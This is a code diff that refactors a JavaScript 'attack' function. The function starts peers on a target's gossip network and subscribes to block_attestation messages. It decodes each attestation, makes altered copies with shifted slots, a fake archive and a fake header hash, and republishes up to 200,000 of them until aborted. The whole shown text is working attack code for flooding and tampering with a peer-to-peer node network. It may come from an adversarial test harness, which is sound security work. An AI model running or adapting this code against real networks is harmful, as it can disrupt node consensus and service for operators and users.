@@ -6,20 +6,20 @@ const MAX_MESSAGES = 200_000;
 
 export async function attack(target, signal) {
   const counts = { heard: 0, repeated: 0 };
-  const nodes = await Promise.all(target.addresses.map(address => startPeer({ ...target, addresses: [address] })));
-  for (const node of nodes)
-    node.subscribe("block_attestation", ({ data }) => {
-      counts.heard++;
-      const attestation = decodeAttestation(data);
-      const changed = [1, 2, 3, -1].map(by => ({ ...attestation, slot: Math.max(0, attestation.slot + by) }));
-      changed.push({ ...attestation, archive: 1n }, { ...attestation, headerHash: 1n });
-      for (const value of changed) {
-        if (signal.aborted || counts.repeated >= MAX_MESSAGES) break;
-        counts.repeated++;
-        void node.publish("block_attestation", encodeAttestation(value)).catch(() => {});
-      }
-      return { result: "ignore", code: "ATTACKER" };
-    });
+  const repeat = ({ data }, node) => {
+    counts.heard++;
+    const attestation = decodeAttestation(data);
+    const changed = [1, 2, 3, -1].map(by => ({ ...attestation, slot: Math.max(0, attestation.slot + by) }));
+    changed.push({ ...attestation, archive: 1n }, { ...attestation, headerHash: 1n });
+    for (const value of changed) {
+      if (signal.aborted || counts.repeated >= MAX_MESSAGES) break;
+      const sent = node.publish("block_attestation", encodeAttestation(value));
+      void sent.then(() => counts.repeated++).catch(() => {});
+    }
+  };
+  const nodes = await Promise.all(
+    target.addresses.map(address => startPeer({ ...target, addresses: [address] }, { block_attestation: repeat })),
+  );
   while (!signal.aborted) await pause(60_000, signal);
   await Promise.all(nodes.map(node => node.stop().catch(() => {})));
   return counts;
